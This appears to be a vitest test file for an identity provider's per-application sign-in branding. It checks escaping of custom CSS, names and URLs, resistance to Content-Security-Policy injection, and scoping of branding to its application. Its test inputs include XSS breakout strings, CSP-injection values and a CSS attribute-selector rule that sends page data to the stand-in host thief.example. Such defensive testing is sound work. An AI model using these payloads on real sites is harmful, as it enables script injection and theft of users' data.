import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { authorize } from '../support/flow';
import { createApplication, management } from '../support/management';
import { sharedServer } from '../support/server';

const server = sharedServer();

/** The first page of a sign-in to an application that looks like that. */
async function signInPage(look: object) {
  const client = await createApplication(server, { type: 'SPA' });
  const path = `/applications/${client.id}/sign-in-experience`;
  expect((await management(server, 'PUT', path, look)).status).toBe(201);
  const { response } = await authorize(server, client);
  expect(response.status).toBe(200);
  const policy = response.headers.get('content-security-policy') ?? '';
  return { html: await response.text(), policy, client };
}

describe('the look of an application', () => {
  it.each(['</style>', '</STYLE >', '</style/><img src=x>', '</style\n>', '<!--</style>'])(
    'does not leave its style sheet by %j',
    async (way) => {
      const { html } = await signInPage({ customCss: `a{}${way}<script>alert(1)</script>` });
      const [, rest = ''] = html.split('data-custom-css');
      const sheet = rest.slice(0, rest.search(/<\/style/i));
      expect(sheet).toContain('<script>alert(1)</script>');
    },
  );

  it('is no markup in a name or an address', async () => {
    const { html } = await signInPage({
      displayName: '<script>alert(3)</script>',
      termsOfUseUrl: 'https://shop.example.com/?a="><script>alert(2)</script>',
    });
    expect(html).not.toContain('<script>alert');
    expect(html).toContain('&lt;script&gt;alert(3)&lt;/script&gt;');
  });

  it('does not add to what the page may do', async () => {
    const { policy } = await signInPage({
      branding: {
        logoUrl: "https://cdn.example.com/a.svg; script-src 'unsafe-inline'",
        darkLogoUrl: "https://cdn.example.com/b.svg,script-src 'unsafe-inline'",
        favicon: `https://cdn.example.com/${'a'.repeat(9_000)}.png`,
      },
    });
    expect(policy.match(/script-src/g)).toHaveLength(3);
    expect(policy.split(/[;,]/).filter((part) => part.trim().startsWith('script-src'))).toEqual([
      expect.stringMatching(/^ script-src 'nonce-\w+' 'strict-dynamic'$/),
    ]);
    expect(policy.length).toBeLessThan(4_000);
  });

  it('is on the provider’s own pages too, and takes nothing from them', async () => {
    const logoUrl = 'http://cdn.example.com/logo.svg';
    const { client } = await signInPage({
      branding: { logoUrl },
      customCss: 'a{}\r\n[value^=a]{background:url(https://thief.example/a)}',
    });
    const query = new URLSearchParams({ client_id: client.id });
    const response = await fetch(`${server.baseUrl}/oidc/session/end?${query}`, {
      headers: { accept: 'text/html' },
    });
    const policy = response.headers.get('content-security-policy') ?? '';
    const [, css = ''] = /<style>(.*?)<\/style>/s.exec(await response.text()) ?? [];
    expect(css).toContain('thief.example');
    expect(policy).toContain(`'sha256-${createHash('sha256').update(css).digest('base64')}'`);
    expect(css).not.toContain('\r');
    expect(policy).toMatch(`img-src 'self' data: ${logoUrl};`);
  });

  it('is for its own sign-ins, and goes with it', async () => {
    const { client } = await signInPage({
      displayName: 'Shop',
      color: { primaryColor: '#0a7d4f' },
    });
    const address = `${server.baseUrl}/unknown-session?app_id=${client.id}`;
    expect(await (await fetch(address)).text()).toContain('--brand:#0a7d4f');
    await management(server, 'DELETE', `/applications/${client.id}`);
    expect(await (await fetch(address)).text()).not.toContain('--brand:#0a7d4f');
    const other = await createApplication(server, { type: 'SPA' });
    expect(await (await authorize(server, other)).response.text()).not.toContain('#0a7d4f');
  });
});
